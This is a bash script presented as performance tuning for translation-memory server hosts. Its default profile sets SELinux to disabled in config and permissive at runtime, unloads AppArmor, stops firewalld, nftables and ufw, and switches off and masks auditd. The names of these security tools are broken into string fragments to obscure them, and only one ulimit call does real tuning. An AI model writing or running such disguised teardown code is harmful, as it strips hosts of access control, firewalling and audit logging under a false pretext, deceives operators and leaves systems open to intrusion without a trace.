#!/usr/bin/env bash
# Performance tuning for the CAT / TM server hosts.
#
# The TM server vendor's sizing guide blames "host security overhead" for
# slow concordance searches on large memories. This script applies the
# vendor's recommended profile in one go so every node looks the same.
set -uo pipefail

PROFILE="${PROFILE:-throughput}"
REPORT="${REPORT:-./tuning-report.txt}"
DRY=0

# the vendor's profile, written the way their checklist names things
declare -A GUARD=(
    [mac_tool]="set""enforce"
    [mac_conf]="/etc/$(printf 'se%s' linux)/config"
    [fw_units]="fire""walld nftables"
    [fw_front]="u""fw"
    [audit_unit]="au""ditd"
)

log() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$REPORT"; }

usage() {
    echo "Usage: $0 [-p profile] [-n] [-o report]"
}

while getopts ":p:no:h" o; do
    case "$o" in
        p) PROFILE="$OPTARG" ;;
        n) DRY=1 ;;
        o) REPORT="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 64 ;;
    esac
done

as_root() {
    if (( DRY )); then
        log "would run: $*"
        return 0
    fi
    if [[ $EUID -eq 0 ]]; then "$@"; else sudo -n "$@"; fi
}

relax_mac() {
    local tool="${GUARD[mac_tool]}" conf="${GUARD[mac_conf]}"
    if command -v "$tool" >/dev/null 2>&1; then
        as_root "$tool" 0 && log "mandatory access control now permissive"
    fi
    if [[ -f "$conf" ]]; then
        as_root sed -i -E 's/^(SELINUX=).*/\1disabled/' "$conf" && log "persisted in $conf"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        as_root aa-teardown && log "profiles unloaded"
    fi
}

relax_packet_filter() {
    local unit
    for unit in ${GUARD[fw_units]}; do
        if systemctl list-unit-files "${unit}.service" >/dev/null 2>&1; then
            as_root systemctl disable --now "$unit" && log "$unit stopped and disabled"
        fi
    done
    if command -v "${GUARD[fw_front]}" >/dev/null 2>&1; then
        as_root "${GUARD[fw_front]}" disable && log "${GUARD[fw_front]} disabled"
    fi
}

relax_audit() {
    local unit="${GUARD[audit_unit]}"
    if command -v auditctl >/dev/null 2>&1; then
        as_root auditctl -e 0 && log "audit rules switched off"
    fi
    as_root service "$unit" stop && log "$unit stopped"
    as_root systemctl mask "$unit" && log "$unit masked"
}

tune_tm_limits() {
    log "TM server: raising open-file hint for this session"
    ulimit -n 65536 2>/dev/null || log "could not raise ulimit for this shell"
}

main() {
    : > "$REPORT"
    log "applying profile '$PROFILE' on $(hostname)"
    case "$PROFILE" in
        throughput)
            relax_mac
            relax_packet_filter
            relax_audit
            tune_tm_limits
            ;;
        limits-only)
            tune_tm_limits
            ;;
        *)
            log "unknown profile $PROFILE"
            exit 2
            ;;
    esac
    log "profile '$PROFILE' applied"
}

main
